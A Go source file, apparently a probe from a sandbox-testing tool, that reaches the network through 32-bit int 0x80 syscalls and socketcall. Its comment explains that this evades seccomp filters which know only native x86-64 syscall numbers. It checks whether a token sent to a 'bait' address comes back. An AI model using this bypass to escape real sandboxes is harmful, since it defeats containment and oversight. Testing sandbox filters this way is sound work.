package main

import (
	"encoding/binary"
	"fmt"
	"unsafe"

	"golang.org/x/sys/unix"
)

func int80(nr, a, b, c uintptr) int32

// Numbers of the 32-bit table (arch/x86/entry/syscalls/syscall_32.tbl) and of
// socketcall(2).
const (
	call32Read, call32Write, call32Socketcall = 3, 4, 102
	callSocket, callConnect                   = 1, 3
)

// int80Talk is ADDR TOKEN, with socketcall through int 0x80: a filter that knows
// only native numbers takes 102 for getuid. Pointers must lie below 4 GiB.
func int80Talk(args []string) (string, error) {
	if len(args) != 2 {
		return "", errUsage
	}
	to, err := socketBytes(args[0])
	if err != nil {
		return "", err
	}
	low, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON|unix.MAP_32BIT)
	if err != nil {
		return "", err
	}
	base := uintptr(unsafe.Pointer(&low[0]))
	sock, err := socketcall(low, callSocket, unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return "socket", err
	}
	copy(low[64:], to)
	if _, err := socketcall(low, callConnect, uint32(sock), uint32(base+64), uint32(len(to))); err != nil {
		return "connect", err
	}
	copy(low[128:], args[1])
	if n := int80(call32Write, uintptr(sock), base+128, uintptr(len(args[1]))); n < 0 {
		return "write", unix.Errno(-n)
	}
	n := int80(call32Read, uintptr(sock), base+1024, 1024)
	if n < 0 {
		return "read", unix.Errno(-n)
	}
	if got := string(low[1024 : 1024+n]); got != args[1] {
		return "", fmt.Errorf("answered %q", got)
	}
	return "the bait answered through int 0x80", nil
}

func socketcall(low []byte, which uintptr, args ...uint32) (int32, error) {
	for i, a := range args {
		binary.LittleEndian.PutUint32(low[4*i:], a)
	}
	r := int80(call32Socketcall, which, uintptr(unsafe.Pointer(&low[0])), 0)
	if r < 0 {
		return 0, unix.Errno(-r)
	}
	return r, nil
}
